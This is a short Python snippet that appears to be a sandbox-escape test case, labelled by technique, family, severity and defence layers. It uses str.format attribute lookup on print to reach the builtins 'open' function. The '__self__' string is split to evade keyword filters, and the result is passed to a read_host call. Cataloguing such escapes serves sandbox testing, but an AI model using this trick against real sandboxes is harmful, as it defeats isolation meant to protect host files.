# technique: str.format as a function that is mapped over texts
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
def trick():
    try:
        list(map(str.format, ["{0.__se" + "lf__.open.nothing}"], [print]))
    except AttributeError as e:
        return e.obj

read_host(trick)
